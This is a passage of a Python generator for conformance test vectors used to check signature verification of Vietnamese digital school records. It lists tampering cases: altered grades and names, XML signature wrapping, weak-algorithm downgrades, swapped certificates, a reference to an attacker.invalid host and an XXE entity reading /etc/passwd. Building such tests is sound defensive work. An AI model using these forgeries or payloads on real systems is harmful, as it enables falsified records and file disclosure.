    minute = 0
    if isinstance(record, SecondaryRecord):
        for s in record.data.summary.subjects:
            who = "gvbm-toan" if s.subject_code == "TOAN" else "gvbm-van"
            doc = sign_slot(doc, f"GVBM:{s.subject_code}", signers[who], _at(minute), level=level)
            minute += 1
    doc = sign_slot(
        doc, "GVCN", signers[gvcn], gvcn_time or _at(minute), force=force_gvcn, level=level
    )
    doc = sign_slot(doc, "CBQL", signers["cbql"], _at(minute + 1), level=level)
    return sign_slot(doc, "KY_PHAT_HANH", signers["org"], _at(minute + 2), level=level)


def _sub(doc: bytes, pattern: str, repl: str) -> bytes:
    new, n = re.subn(pattern.encode(), repl.encode(), doc, count=1, flags=re.S)
    if n != 1:
        raise AssertionError(f"pattern {pattern!r} not found")
    return new


F, IND, P = "TOTAL_FAILED", "INDETERMINATE", "TOTAL_PASSED"


def signature_vectors(pki: Path) -> tuple[list[Vector], bytes]:
    """Signed records, the attacks of the signatures issue, and bad signers."""
    signers = load_signers(pki)
    prim, sec = signable_records(signers)
    sp = sign_all(prim, signers)
    ss = sign_all(sec, signers)
    out: list[Vector] = []

    def add(vid: str, description: str, doc: bytes, expect: dict[str, Any], *covers: str) -> None:
        out.append(
            Vector(f"signatures/{vid}", "signatures", description, expect, doc, list(covers))
        )

    add(
        "primary-signed",
        "primary record, GVCN → CBQL → KY_PHAT_HANH",
        sp,
        verdict(P),
        "signed:primary",
    )
    add(
        "secondary-signed",
        "secondary record, a GVBM per subject → GVCN → CBQL → KY_PHAT_HANH",
        ss,
        verdict(P),
        "signed:secondary",
    )
    add(
        "primary-xades-b-b",
        "primary record signed at XAdES baseline B-B",
        sign_all(prim, signers, level=signing.SignatureLevel.XADES_B_B),
        verdict(P),
        "signed:xades-b-b",
    )
    add(
        "unsigned",
        "the primary record without any signature",
        xml(prim),
        verdict(F, "SIG_CONSTRAINTS_FAILURE", findings=("SIG-REQUIRED-MISSING",)),
        "signed:none",
    )
    partial = sign_slot(
        sign_slot(xml(prim), "GVCN", signers["gvcn"], _at(0)), "CBQL", signers["cbql"], _at(1)
    )
    add(
        "issuing-seal-missing",
        "GVCN and CBQL signed, the issuing seal (KY_PHAT_HANH) missing",
        partial,
        verdict(F, "SIG_CONSTRAINTS_FAILURE", findings=("SIG-REQUIRED-MISSING",)),
        "attack:slot-missing",
    )
    name = get_text(sp, "HO_VA_TEN")
    add(
        "name-one-character",
        "one letter of the student's name changed after signing",
        replace_once(sp, f"<HO_VA_TEN>{name}</HO_VA_TEN>", f"<HO_VA_TEN>{name[:-1]}x</HO_VA_TEN>"),
        verdict(F, "HASH_FAILURE", slots=(slot("CBQL", F, "HASH_FAILURE"),)),
        "attack:name-changed",
    )
    toan = _idx(sec, "TOAN")
    toan_avg = sec.data.summary.subjects[toan].term1.average
    nv = _idx(sec, "NV")
    nv_avg = sec.data.summary.subjects[nv].term1.average
    assert toan_avg is not None and nv_avg is not None

    def bump(v: Decimal) -> str:
        return str(v - 1 if v >= 1 else v + 1)

    add(
        "score-changed",
        "Toán's term I average changed after signing",
        _sub(
            ss,
            r'(<DIEM_TONG_KET Id="mon-TOAN">.*?<HOC_KY_1>.*?<DTB_MON>)[^<]*',
            rf"\g<1>{bump(toan_avg)}",
        ),
        verdict(F, "HASH_FAILURE", slots=(slot("GVBM:TOAN", F, "HASH_FAILURE"),)),
        "attack:score-changed",
    )
    add(
        "score-changed-other-subject",
        "Ngữ văn's average changed: the Toán teacher's signature still holds, the record fails",
        _sub(
            ss,
            r'(<DIEM_TONG_KET Id="mon-NV">.*?<HOC_KY_1>.*?<DTB_MON>)[^<]*',
            rf"\g<1>{bump(nv_avg)}",
        ),
        verdict(
            F,
            "HASH_FAILURE",
            slots=(slot("GVBM:TOAN", P), slot("GVBM:NV", F, "HASH_FAILURE")),
        ),
        "attack:score-changed",
    )
    add(
        "whitespace-inside-value",
        "a space added at the end of the name after signing",
        replace_once(sp, f"<HO_VA_TEN>{name}</HO_VA_TEN>", f"<HO_VA_TEN>{name} </HO_VA_TEN>"),
        verdict(F, "HASH_FAILURE", slots=(slot("KY_PHAT_HANH", F, "HASH_FAILURE"),)),
        "attack:whitespace",
    )
    add(
        "whitespace-between-elements",
        "a line break between two signed elements",
        replace_once(sp, "</HO_VA_TEN><SO_CCCD>", "</HO_VA_TEN>\n  <SO_CCCD>"),
        verdict(F, "HASH_FAILURE"),
        "attack:whitespace",
    )
    add(
        "nfd-name",
        "the signed name re-encoded in NFD (looks the same, different bytes)",
        replace_once(sp, name, unicodedata.normalize("NFD", name)),
        verdict(F, "HASH_FAILURE"),
        "attack:nfd",
    )
    add(
        "slot-removed",
        "the CBQL slot removed",
        _sub(sp, r"<CBQL>.*?</CBQL>", ""),
        verdict(F, "SIG_CONSTRAINTS_FAILURE", findings=("SIG-REQUIRED-MISSING",)),
        "attack:signature-removed",
    )
    add(
        "signature-removed-from-slot",
        "the ds:Signature removed from the CBQL slot (NGAY_KY and SO_CCCD left)",
        _sub(sp, r"(<CBQL>.*?)<Signature .*?</Signature>", r"\1"),
        verdict(F, "FORMAT_FAILURE", slots=(slot("CBQL", F, "FORMAT_FAILURE"),)),
        "attack:signature-removed",
    )
    add(
        "slot-duplicated",
        "the CBQL slot twice",
        _sub(sp, r"(<CBQL>.*?</CBQL>)", r"\1\1"),
        verdict(F, "FORMAT_FAILURE", findings=("SIG-DUPLICATE-ID",)),
        "attack:signature-duplicated",
    )
    add(
        "signature-duplicated-in-slot",
        "the CBQL ds:Signature twice inside its slot",
        _sub(sp, r"(<CBQL>.*?)(<Signature .*?</Signature>)", r"\1\2\2"),
        verdict(F, "FORMAT_FAILURE", slots=(slot("CBQL", F, "FORMAT_FAILURE"),)),
        "attack:signature-duplicated",
    )
    add(
        "signature-moved-to-other-slot",
        "the CBQL signature copied into the GVCN slot in place of the GVCN signature",
        _sub(
            sp,
            r"(<GVCN><NGAY_KY>.*?</SO_CCCD>)<Signature .*?</Signature>(</GVCN><CBQL><NGAY_KY>.*?"
            r"</SO_CCCD>)(<Signature .*?</Signature>)",
            r"\1\3\2\3",
        ),
        verdict(F, "FORMAT_FAILURE", slots=(slot("GVCN", F, "FORMAT_FAILURE"),)),
        "attack:signature-moved",
    )
    add(
        "slots-out-of-order",
        "KY_PHAT_HANH placed before CBQL",
        _sub(sp, r"(<CBQL>.*?</CBQL>)(<KY_PHAT_HANH>.*?</KY_PHAT_HANH>)", r"\2\1"),
        verdict(F, "FORMAT_FAILURE", findings=("SIG-SLOT-ORDER",)),
        "attack:slots-out-of-order",
    )
    data = re.search(rb'<DU_LIEU_HOC_BA Id="data">.*?</DU_LIEU_HOC_BA>', sp, re.S)
    assert data is not None
    forged = data.group(0).replace(name.encode(), "Kẻ Giả Mạo".encode())
    add(
        "wrapping-forged-data-same-id",
        "signed DU_LIEU_HOC_BA moved into a wrapper at the end, a forged one (same Id) in place",
        sp.replace(data.group(0), forged, 1).replace(
            b"</HOC_BA>", b"<WRAP>" + data.group(0) + b"</WRAP></HOC_BA>"
        ),
        verdict(F, "FORMAT_FAILURE", findings=("SIG-DUPLICATE-ID",)),
        "attack:wrapping",
    )
    add(
        "wrapping-original-in-object",
        "signed DU_LIEU_HOC_BA moved into the CBQL signature's ds:Object, a forged one in place",
        _sub(
            sp.replace(data.group(0), forged.replace(b' Id="data"', b""), 1),
            r"(<CBQL>.*?)(</Signature></CBQL>)",
            r"\1<Object>@@DATA@@</Object>\2",
        ).replace(b"@@DATA@@", data.group(0)),
        verdict(
            F, "FORMAT_FAILURE", "HASH_FAILURE", "SIG_CRYPTO_FAILURE", slots=(slot("CBQL", F),)
        ),
        "attack:wrapping",
    )
    add(
        "wrapping-second-data",
        "a second, forged DU_LIEU_HOC_BA after the signed one",
        replace_once(
            sp,
            "</DU_LIEU_HOC_BA>",
            "</DU_LIEU_HOC_BA><DU_LIEU_HOC_BA><THONG_TIN_CHUNG><HO_VA_TEN>Kẻ Giả Mạo</HO_VA_TEN>"
            "</THONG_TIN_CHUNG></DU_LIEU_HOC_BA>",
        ),
        verdict(F, "FORMAT_FAILURE", findings=("SIG-LAYOUT",)),
        "attack:wrapping",
    )
    add(
        "duplicate-id",
        'a second element with Id="data" (QUA_TRINH_HOC_TAP)',
        replace_once(sp, "<QUA_TRINH_HOC_TAP>", '<QUA_TRINH_HOC_TAP Id="data">'),
        verdict(F, "FORMAT_FAILURE", findings=("SIG-DUPLICATE-ID",)),
        "attack:duplicate-id",
    )
    for vid, uri, what in (
        ("external-reference-uri", "http://attacker.invalid/hoc-ba.xml", "an external URL"),
        ("xpointer-reference-uri", "#xpointer(id('data'))", "an XPointer expression"),
        ("empty-reference-uri", "", "the empty URI (whole document)"),
    ):
        add(
            vid,
            f"the CBQL data Reference points to {what}",
            _sub(sp, r'(<CBQL>.*?)URI="#data"', rf'\1URI="{uri}"'),
            verdict(F, "FORMAT_FAILURE", slots=(slot("CBQL", F, "FORMAT_FAILURE"),)),
            "attack:reference-uri",
        )
    add(
        "xpath-transform",
        "an XPath transform that hides the name from the CBQL digest",
        _sub(
            sp,
            r"(<CBQL>.*?<Transforms>)",
            r'\1<Transform Algorithm="http://www.w3.org/TR/1999/REC-xpath-19991116"><XPath>'
            r"not(ancestor-or-self::HO_VA_TEN)</XPath></Transform>",
        ),
        verdict(F, "FORMAT_FAILURE", slots=(slot("CBQL", F, "FORMAT_FAILURE"),)),
        "attack:reference-uri",
    )
    for vid, pattern, uri, what in (
        ("sha1-digest", "DigestMethod", "http://www.w3.org/2000/09/xmldsig#sha1", "SHA-1 digest"),
        (
            "md5-signature-method",
            "SignatureMethod",
            "http://www.w3.org/2001/04/xmldsig-more#rsa-md5",
            "RSA-MD5 signature method",
        ),
        (
            "hmac-signature-method",
            "SignatureMethod",
            "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256",
            "HMAC signature method (no certificate binding)",
        ),
    ):
        add(
            vid,
            f"the CBQL signature declares a {what}",
            _sub(sp, rf'(<CBQL>.*?<{pattern} Algorithm=")[^"]*', rf"\g<1>{uri}"),
            verdict(
                F,
                "CRYPTO_CONSTRAINTS_FAILURE",
                slots=(slot("CBQL", F, "CRYPTO_CONSTRAINTS_FAILURE"),),
            ),
            "attack:weak-algorithm",
        )
    add(
        "comment-injected",
        "a comment inside the signed name (invisible to exclusive C14N without comments)",
        replace_once(
            sp, f"<HO_VA_TEN>{name}</HO_VA_TEN>", f"<HO_VA_TEN>{name}<!-- --></HO_VA_TEN>"
        ),
        verdict(F, "FORMAT_FAILURE", findings=("SIG-COMMENT",)),
        "attack:comment",
    )
    add(
        "processing-instruction-injected",
        "a processing instruction inside the signed data",
        replace_once(
            sp, "<TONG_KET>", '<TONG_KET><?xml-stylesheet href="http://attacker.invalid/x.xsl"?>'
        ),
        verdict(F, "FORMAT_FAILURE", findings=("SIG-COMMENT",)),
        "attack:comment",
    )
    rogue = signers["rogue-cbql"].certificate.public_bytes(serialization.Encoding.DER)
    import base64

    add(
        "certificate-swapped-same-subject",
        "the CBQL certificate replaced by another with the same subject (other key, other CA)",
        _sub(
            sp,
            r"(<CBQL>.*?<X509Certificate>)[^<]*",
            r"\g<1>" + base64.b64encode(rogue).decode(),
        ),
        verdict(F, "SIG_CRYPTO_FAILURE", slots=(slot("CBQL", F, "SIG_CRYPTO_FAILURE"),)),
        "attack:certificate-swapped",
    )
    add(
        "signature-value-altered",
        "one base64 character of the issuing seal's SignatureValue changed",
        _sub(sp, r"(<KY_PHAT_HANH>.*?<SignatureValue>)(.)", r"\1A\2"),
        verdict(F, "SIG_CRYPTO_FAILURE", "FORMAT_FAILURE", slots=(slot("KY_PHAT_HANH", F),)),
        "attack:signature-value",
    )
    add(
        "slot-cccd-changed",
        "the SO_CCCD of the CBQL slot changed (not the certificate's id)",
        _sub(sp, r"(<CBQL><NGAY_KY>[^<]*</NGAY_KY><SO_CCCD>)[0-9]{12}", r"\g<1>048078009999"),
        verdict(F, "SIG_CONSTRAINTS_FAILURE", slots=(slot("CBQL", F, "SIG_CONSTRAINTS_FAILURE"),)),
        "attack:slot-cccd",
    )
    add(
        "unknown-element-in-signature-list",
        "an unknown element in DANH_SACH_THONG_TIN_KY",
        replace_once(
            sp, "<DANH_SACH_THONG_TIN_KY>", "<DANH_SACH_THONG_TIN_KY><GHI_CHU>x</GHI_CHU>"
        ),
        verdict(F, "FORMAT_FAILURE", findings=("SIG-LAYOUT",)),
        "attack:layout",
    )
    add(
        "keyname-added",
        "a KeyName (an unverified key hint) added to the CBQL KeyInfo",
        _sub(sp, r"(<CBQL>.*?<KeyInfo>)", r"\1<KeyName>attacker</KeyName>"),
        verdict(F, "FORMAT_FAILURE", slots=(slot("CBQL", F, "FORMAT_FAILURE"),)),
        "attack:keyinfo",
    )
    add(
        "truncated",
        "a signed record cut off in the middle",
        sp[: len(sp) * 3 // 5],
        unusable("XML-SYNTAX"),
        "attack:truncated",
    )
    add(
        "not-xml",
        "a PDF header instead of XML",
        b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n",
        unusable("XML-SYNTAX", "TEXT-ENCODING"),
        "attack:not-xml",
    )
    add(
        "entity-attack",
        "a signed record behind a DOCTYPE with an external entity",
        b'<!DOCTYPE HOC_BA [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>' + sp,
        unusable("XML-UNSAFE"),
        "attack:dtd-entity",
    )

    # ---- bad signers: each in the GVCN slot of an otherwise well-signed record
    def with_gvcn(who: str) -> Record:
        return update(prim, ("data", "general"), homeroom_teacher_personal_id=_cccd(signers[who]))

    add(
        "expired-signer",
        "GVCN signed after the certificate expired",
        sign_all(with_gvcn("expired"), signers, gvcn="expired", force_gvcn=True),
        verdict(F, "EXPIRED", slots=(slot("GVCN", F, "EXPIRED"),)),
        "attack:expired",
    )
    add(
        "expired-since-signing",
        "GVCN signed while the certificate was valid; it has expired since, no proof of time",
        sign_all(
            with_gvcn("expired"),
            signers,
            gvcn="expired",
            gvcn_time=(PKI_NOW - dt.timedelta(days=100)).astimezone(VIETNAM_TZ),
        ),
        verdict(IND, "OUT_OF_BOUNDS_NO_POE", slots=(slot("GVCN", IND, "OUT_OF_BOUNDS_NO_POE"),)),
        "attack:expired",
    )
    add(
        "not-yet-valid-signer",
        "GVCN signed before the certificate's validity starts",
        sign_all(with_gvcn("future"), signers, gvcn="future", force_gvcn=True),
        verdict(F, "NOT_YET_VALID", slots=(slot("GVCN", F, "NOT_YET_VALID"),)),
        "attack:not-yet-valid",
    )
    add(
        "revoked-signer",
        "GVCN signed after the certificate was revoked (the CRL says so)",
        sign_all(with_gvcn("revoked"), signers, gvcn="revoked", force_gvcn=True),
        verdict(F, "REVOKED", slots=(slot("GVCN", F, "REVOKED"),)),
        "attack:revoked",
    )
    add(
        "revoked-signer-backdated",
        "GVCN claims a signing time before the revocation; nothing proves it",
        sign_all(
            with_gvcn("revoked"),
            signers,
            gvcn="revoked",
            gvcn_time=(PKI_NOW - dt.timedelta(days=20)).astimezone(VIETNAM_TZ),
        ),
        verdict(IND, "REVOKED_NO_POE", slots=(slot("GVCN", IND, "REVOKED_NO_POE"),)),
        "attack:revoked",
    )
    doc = sign_slot(xml(prim), "GVCN", signers["gvcn"], _at(0))
    doc = sign_slot(doc, "CBQL", signers["rogue-cbql"], _at(1))
    add(
        "untrusted-root",
        "CBQL signed with a certificate of the same subject from an untrusted root",
        sign_slot(doc, "KY_PHAT_HANH", signers["org"], _at(2)),
        verdict(
            IND,
            "NO_CERTIFICATE_CHAIN_FOUND",
            slots=(slot("CBQL", IND, "NO_CERTIFICATE_CHAIN_FOUND"),),
        ),
        "attack:untrusted-root",
    )
    doc = sign_slot(xml(prim), "GVCN", signers["gvcn"], _at(0))
    doc = sign_slot(doc, "CBQL", signers["cbql"], _at(1))
    add(
        "personal-certificate-as-seal",
        "the issuing seal made with the leader's personal certificate",
        sign_slot(doc, "KY_PHAT_HANH", signers["cbql"], _at(2), force=True),
        verdict(
            F,
            "SIG_CONSTRAINTS_FAILURE",
            slots=(slot("KY_PHAT_HANH", F, "SIG_CONSTRAINTS_FAILURE"),),
        ),
        "attack:personal-seal",
    )
    add(
        "seal-before-leader",
        "the issuing seal's signing time before the leader's",
        sign_slot(doc, "KY_PHAT_HANH", signers["org"], _at(-30), force=True),
        verdict(F, "SIG_CONSTRAINTS_FAILURE", findings=("SIG-TIME-ORDER",)),
        "attack:signing-order",
    )
    return out, sp


# ----------------------------------------------------------------------------- assembly


def build(pki: Path) -> tuple[list[Vector], dict[str, bytes]]:
    """Every vector, and the extra files (trust material, VERSION)."""
    sigs, signed_primary = signature_vectors(pki)
    vectors = [
        *grade_vectors(),
        *code_vectors(),
        *schema_vectors(),
        *canonical_vectors(),
        *rule_vectors(signed_primary),
        *batch_vectors(),
        *parser_vectors(),
        *sigs,
    ]
    ids = [v.id for v in vectors]
    dupes = {i for i in ids if ids.count(i) > 1}
    if dupes:
        raise AssertionError(f"duplicate vector ids: {sorted(dupes)}")
    extra: dict[str, bytes] = {"VERSION": f"{VERSION}\n".encode()}
    trust = pki / "trust"
    for path in sorted(trust.rglob("*")):
        if path.is_file():
            extra[f"trust/{path.relative_to(trust).as_posix()}"] = path.read_bytes()
    extra["trust/README.txt"] = TRUST_README.encode()
    return vectors, extra


TRUST_README = """TEST ONLY — NOT FOR PRODUCTION / CHỈ DÙNG ĐỂ KIỂM THỬ
Trust material of the hocbaso conformance vectors: the demo root CA, the demo issuing CA, their
CRLs and the registered organisation certificate of the demo school. Made once with
hocbaso.pki.make_demo_pki(now=2025-01-15T00:00:00Z); the private keys are in the hocbaso
repository (tests/conformance/pki) and are NOT secret. Never add root-ca.pem to a real trust
store. Verify the signed vectors at the manifest's validation_time (2025-01-16T00:00:00Z).
"""


def manifest(vectors: Sequence[Vector], differences: dict[str, dict[str, Any]]) -> dict[str, Any]:
    """The manifest document."""
    cases = []
    for v in vectors:
        entry = v.entry()
        if v.id in differences:
            entry["xsd_engines"] = differences[v.id]
        cases.append(entry)
    return {
        "kit": KIT_NAME,
        "version": VERSION,
        "protocol": PROTOCOL_VERSION,
        "generator": "python -m hocbaso.conformance._generate",
        "validation_time": VALIDATION_TIME.isoformat(),
        "trust": "trust",
        "categories": CATEGORIES,
        "exit_status": {
            "0": "valid / TOTAL_PASSED",
            "1": "invalid / TOTAL_FAILED",
            "2": "unusable / INDETERMINATE",
        },
        "cases": cases,
    }


def render(pki: Path) -> dict[str, bytes]:
    """Every file of the vectors directory (except README.md), by relative path."""
    from hocbaso.conformance._differential import engine_differences

    vectors, extra = build(pki)
    files = {v.file: v.data for v in vectors}
    differences = {}
    for v in vectors:
        diff = engine_differences(v.data)
        if diff is not None:
            differences[v.id] = diff
    doc = json.dumps(manifest(vectors, differences), ensure_ascii=False, indent=1)
    files[MANIFEST_NAME] = (doc + "\n").encode()
    files.update(extra)
    return files


_OWNED = ("VERSION", MANIFEST_NAME, "trust", *CATEGORIES)


def on_disk(directory: Path) -> dict[str, bytes]:
    """The generated files currently in ``directory`` (README.md excluded)."""
    out = {}
    for name in _OWNED:
        path = directory / name
        if path.is_file():
            out[name] = path.read_bytes()
        elif path.is_dir():
            for f in sorted(path.rglob("*")):
                if f.is_file():
                    out[f.relative_to(directory).as_posix()] = f.read_bytes()
    return out


def write(directory: Path, files: dict[str, bytes]) -> None:
    """Replace the generated files of ``directory`` with ``files``."""
    for name in _OWNED:
        path = directory / name
        if path.is_dir():
            shutil.rmtree(path)
        elif path.is_file():
            path.unlink()
    for rel, data in files.items():
        target = directory / rel
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(data)


def diff(expected: dict[str, bytes], actual: dict[str, bytes]) -> list[str]:
    """Human-readable differences between two file sets."""
    out = []
    for rel in sorted(set(expected) | set(actual)):
        if rel not in actual:
            out.append(f"missing: {rel}")
        elif rel not in expected:
            out.append(f"unexpected: {rel}")
        elif expected[rel] != actual[rel]:
            out.append(f"differs: {rel}")
    return out


def main(argv: Sequence[str] | None = None) -> int:
    """Command-line entry point (see the module docstring)."""
    parser = argparse.ArgumentParser(prog="python -m hocbaso.conformance._generate")
    parser.add_argument("--check", action="store_true", help="compare, do not write")
    parser.add_argument("--out", type=Path, default=vectors_path(), help="vectors directory")
    parser.add_argument("--pki", type=Path, default=DEFAULT_PKI, help="demo PKI (TEST ONLY)")
    args = parser.parse_args(argv)
    if not (args.pki / "root-ca.pem").is_file():
        print(f"no demo PKI at {args.pki} (run from a hocbaso checkout)", file=sys.stderr)
        return 2
    files = render(args.pki)
    if args.check:
        problems = diff(files, on_disk(args.out))
        for line in problems:
            print(line)
        print(f"{len(problems)} difference(s) in {args.out}")
        return 1 if problems else 0
    args.out.mkdir(parents=True, exist_ok=True)
    write(args.out, files)
    print(f"wrote {len(files)} files to {args.out}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
